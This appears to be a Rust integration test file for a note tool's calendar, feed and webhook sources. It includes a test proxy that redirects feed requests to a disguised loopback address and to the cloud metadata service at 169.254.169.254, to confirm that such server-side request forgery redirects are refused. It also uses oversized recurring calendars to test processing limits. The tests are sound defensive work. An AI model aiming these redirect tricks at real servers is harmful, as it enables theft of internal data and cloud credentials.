fn a_calendar_source_queues_a_digest_when_the_day_changes() {
    let ws = workspace("");
    let cal = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sources/berlin-standup.ics"),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    write(&ws.root.join("cal.ics"), &cal);
    let config = std::fs::read_to_string(ws.root.join(".livenote.toml")).unwrap_or_default();
    write(
        &ws.root.join(".livenote.toml"),
        &format!("{config}\n[sources.cal]\nkind = \"ics\"\npath = \"cal.ics\"\nbackfill = true\n"),
    );
    assert_eq!(run(&ws, &["trust", "."]).0, 0);
    ws.set_clock("2026-03-27T06:00:00Z");
    let (code, out, err) = poll(&ws, "cal", &[]);
    assert_eq!(code, 0, "{out}{err}");
    let queued = pending(&ws.root);
    assert_eq!(queued.len(), 1, "{out}{queued:?}");
    assert_eq!(queued[0]["type"], "calendar.digest", "{}", queued[0]);
    // The same calendar later the same day: no change, no event.
    ws.set_clock("2026-03-27T07:00:00Z");
    let (code, out, err) = poll(&ws, "cal", &[]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(pending(&ws.root).len(), 1, "{out}");
}

/// An HTTP proxy on 127.0.0.1 standing for the internet: a request whose target ends with one of
/// `redirects`' suffixes is answered with a redirect to its address; any other request for an
/// absolute URL is forwarded to that host (which the proxy reaches as any proxy would, an IPv6
/// spelling of an IPv4 address at that address). Its port, and the request targets it saw.
fn proxy(redirects: Vec<(&'static str, String)>) -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use std::sync::{Arc, Mutex};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = listener.local_addr().map(|a| a.port()).unwrap_or_else(|e| panic!("{e}"));
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut head = Vec::new();
            let mut byte = [0u8; 1];
            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|n| n == 1) {
                head.push(byte[0]);
            }
            let head = String::from_utf8_lossy(&head).into_owned();
            let target = head.split(' ').nth(1).unwrap_or_default().to_owned();
            log.lock().unwrap_or_else(|e| e.into_inner()).push(target.clone());
            if let Some((_, to)) = redirects.iter().find(|(suffix, _)| target.ends_with(suffix)) {
                let answer = format!(
                    "HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                );
                let _ = stream.write_all(answer.as_bytes());
                continue;
            }
            // Forwarded: `http://HOST:PORT/PATH` to HOST:PORT.
            let rest = target.strip_prefix("http://").unwrap_or_default();
            let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
            let addr = authority
                .parse::<std::net::SocketAddr>()
                .map(|a| std::net::SocketAddr::new(a.ip().to_canonical(), a.port()));
            let forwarded =
                addr.ok().and_then(|a| TcpStream::connect_timeout(&a, Duration::from_secs(1)).ok());
            let Some(mut upstream) = forwarded else {
                let _ = stream
                    .write_all(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
                continue;
            };
            let path = if path.is_empty() { "/" } else { path };
            let _ = upstream.write_all(
                format!("GET {path} HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n").as_bytes(),
            );
            let _ = std::io::copy(&mut upstream, &mut stream);
        }
    });
    (port, seen)
}

/// A feed on the internet (reached through a proxy, as many are) that redirects to this
/// machine under another spelling of 127.0.0.1, or to a cloud metadata service, is refused
/// before anything connects there, with the reason in `livenote sources`; a feed configured
/// on this machine still follows a redirect within it. (The same rule for a name that leads to
/// 127.0.0.1 through a hosts file is `sources::fetch`'s unit test, with a resolver of its own.)
#[test]
fn a_remote_feed_cannot_redirect_a_poll_to_this_machine() {
    let ws = workspace("");
    let feed = ws.root.join("feed.xml");
    write(&feed, &FEED.replace("ITEMS", ""));
    let local = serve_file(feed);
    let (proxy_port, seen) = proxy(vec![
        ("/rss", format!("http://[::ffff:7f00:1]:{local}/feed.xml")),
        ("/meta", "http://169.254.169.254/latest/meta-data/".to_owned()),
        ("/moved", format!("http://localhost:{local}/feed.xml")),
    ]);
    let config = std::fs::read_to_string(ws.root.join(".livenote.toml")).unwrap_or_default();
    let source = |name: &str, url: &str| {
        format!("\n[sources.{name}]\nkind = \"feed\"\nurl = {url:?}\nbackfill = true\n")
    };
    write(
        &ws.root.join(".livenote.toml"),
        &format!(
            "{config}{}{}{}",
            source("remote", "http://feed.example/rss"),
            source("metadata", "http://feed.example/meta"),
            source("local", &format!("http://127.0.0.1:{proxy_port}/moved")),
        ),
    );
    assert_eq!(run(&ws, &["trust", "."]).0, 0);
    ws.set_clock("2026-05-08T15:00:00Z");
    let poll_through_proxy = |name: &str| {
        let clock = ws.clock().display().to_string();
        let mut cmd = ws.livenote(&["sources", "poll", name, "--clock-file", &clock]);
        for var in
            ["http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"]
        {
            cmd.env_remove(var);
        }
        let out = cmd
            .env("HTTP_PROXY", format!("http://127.0.0.1:{proxy_port}"))
            .output()
            .unwrap_or_else(|e| panic!("{e}"));
        (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stderr).into_owned())
    };

    let (code, err) = poll_through_proxy("remote");
    let refused = format!(
        "feed.example redirected to [::ffff:7f00:1]:{local}, on this machine (loopback), which is refused: name that address in the source's url if it is meant"
    );
    assert_eq!(code, 1, "{err}");
    assert!(err.contains(&refused), "{err}");
    assert!(pending(&ws.root).is_empty(), "nothing from this machine was queued");
    let (code, err) = poll_through_proxy("metadata");
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("feed.example redirected to 169.254.169.254, a link-local address (a router or a cloud metadata service), which is refused"),
        "{err}"
    );
    assert_eq!(
        *seen.lock().unwrap_or_else(|e| e.into_inner()),
        ["http://feed.example/rss", "http://feed.example/meta"],
        "no redirect was followed, through the proxy or not"
    );
    let s = sources_json(&ws);
    assert!(s["remote"]["lastError"].as_str().is_some_and(|e| e.contains(&refused)), "{s}");

    // Configured on this machine: its redirect to `localhost` is followed, directly.
    let (code, err) = poll_through_proxy("local");
    assert_eq!(code, 0, "{err}");
    let queued = pending(&ws.root);
    assert_eq!(queued.len(), 1, "{err}{queued:?}");
    assert!(queued[0]["payload"].to_string().contains("Bug fixes."), "{}", queued[0]);
}

/// A calendar of `n` events repeating every second since 1990 (issue 31: 2,000 of them are
/// 250 KB).
fn every_second_since_1990(n: usize) -> String {
    let mut out = String::from("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\n");
    for i in 0..n {
        out.push_str(&format!(
            "BEGIN:VEVENT\r\nUID:s{i}@example.org\r\nSUMMARY:Tick {i}\r\nDTSTART:19900101T000000Z\r\nRRULE:FREQ=SECONDLY\r\nEND:VEVENT\r\n"
        ));
    }
    out.push_str("END:VCALENDAR\r\n");
    out
}

/// The events `source` queued, whether pending, being processed or done.
fn events_of(root: &Path, source: &str) -> Vec<Value> {
    let mut all = Vec::new();
    for dir in [events::pending_dir(root), events::processing_dir(root), events::done_dir(root)] {
        for f in files(&dir) {
            let text = std::fs::read_to_string(dir.join(f)).unwrap_or_default();
            all.push(serde_json::from_str::<Value>(&text).unwrap_or(Value::Null));
        }
    }
    all.retain(|e| e["source"] == source);
    all
}

/// Issue 31: two such calendars held both of `watch`'s runtime workers for minutes, and a
/// webhook POST got no answer in 60 s. Each is read off the runtime within its budget: the
/// webhook answers at once, and each digest says first what was left out, as the log does.
#[test]
fn hostile_calendars_hold_up_no_webhook_and_their_digests_say_what_was_left_out() {
    let port = free_port();
    let mut sources = format!(
        "[sources.hook]\nkind = \"webhook\"\nlisten = \"127.0.0.1:{port}\"\npath = \"/hook\"\ntoken_env = \"HOOK_TOKEN\"\n"
    );
    let calendars = ["cal1", "cal2"];
    for name in calendars {
        sources
            .push_str(&format!("[sources.{name}]\nkind = \"ics\"\npath = \"{name}.ics\"\nbackfill = true\n"));
    }
    let ws = workspace(&sources);
    for name in calendars {
        write(&ws.root.join(format!("{name}.ics")), &every_second_since_1990(2_000));
    }
    assert!(std::fs::metadata(ws.root.join("cal1.ics")).is_ok_and(|m| m.len() > 200_000));
    ws.set_clock("2026-03-10T06:00:00Z");
    let clock = ws.clock().display().to_string();
    let mut w = ws.watch_env(&["--clock-file", &clock], &[("HOOK_TOKEN", "t0ken")]);
    // The calendars' polls start before the listener is bound: they are under way now.
    w.wait_for("source hook: listening on");
    let started = std::time::Instant::now();
    let auth = "Content-Type: application/json\r\nAuthorization: Bearer t0ken\r\n";
    let (code, answer) = post(port, auth, br#"{"release": "widget release 4.0"}"#);
    let took = started.elapsed();
    assert_eq!(code, 202, "{answer}");
    assert!(took < Duration::from_secs(5), "the webhook answered after {took:?}");
    for _ in calendars {
        w.wait_for(": the calendar's recurrences are too many to expand in one poll");
    }
    wait_until("both digests done", 30, || files(&events::done_dir(&ws.root)).len() == 3);
    let logs = w.stop();
    for name in calendars {
        let said = format!("WARN source {name}: the calendar's recurrences are too many");
        assert!(logs.iter().any(|l| l.contains(&said)), "{logs:#?}");
        let digest = &events_of(&ws.root, name)[0];
        let first = digest["payload"]["problems"][0].as_str().unwrap_or_default();
        assert!(first.contains("(its budget is 1,000,000 steps or 2 s): "), "{digest}\n{logs:#?}");
        assert!(first.ends_with("recurring events left out or cut short"), "{first}");
    }
    let s = sources_json(&ws);
    assert!(s["cal1"]["lastError"].is_null() && s["cal2"]["lastError"].is_null(), "{s}");
}

/// Issue 31: a calendar whose line endings mix LF and CRLF (an export edited by hand) was
/// refused at a valid line; it reads as its CRLF twin. A calendar that truly cannot be read
/// names the line that is wrong, counted in the file.
#[test]
fn a_calendar_with_mixed_line_endings_is_read_and_a_broken_one_names_its_wrong_line() {
    let ws = workspace("[sources.cal]\nkind = \"ics\"\npath = \"cal.ics\"\nbackfill = true\n");
    let cal = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sources/berlin-standup.ics"),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    // LF for the lines of the time zone block, CRLF elsewhere: line 35 (END:VEVENT) is where
    // the parser gave up.
    let mixed: String = cal
        .split_inclusive("\r\n")
        .enumerate()
        .map(|(i, l)| if (4..21).contains(&i) { l.replace("\r\n", "\n") } else { l.to_owned() })
        .collect();
    write(&ws.root.join("cal.ics"), &mixed);
    ws.set_clock("2026-03-27T06:00:00Z");
    let (code, out, err) = poll(&ws, "cal", &[]);
    assert_eq!(code, 0, "{out}{err}");
    let queued = pending(&ws.root);
    assert_eq!(queued.len(), 1, "{out}{queued:?}");
    let events = &queued[0]["payload"]["events"];
    assert_eq!(events[0]["title"], "Stand-up", "{events}");
    // 09:00 in Berlin, read in the tests' zone (UTC).
    assert_eq!(events[0]["start"], "2026-03-27T08:00:00Z", "{events}");
    // A VEVENT closed as a VTODO, after a folded line.
    let broken = mixed
        .replace("SUMMARY:Stand-up\r\n", "SUMMARY:Stand-\n up\r\n")
        .replace("END:VEVENT\r\n", "END:VTODO\r\n");
    write(&ws.root.join("cal.ics"), &broken);
    ws.set_clock("2026-03-28T06:00:00Z");
    let (code, _, err) = poll(&ws, "cal", &[]);
    assert_eq!(code, 1, "{err}");
    let s = sources_json(&ws);
    assert_eq!(
        s["cal"]["lastError"],
        "not an iCalendar file: line 36: END:VTODO does not close BEGIN:VEVENT of line 22",
        "{s}"
    );
}
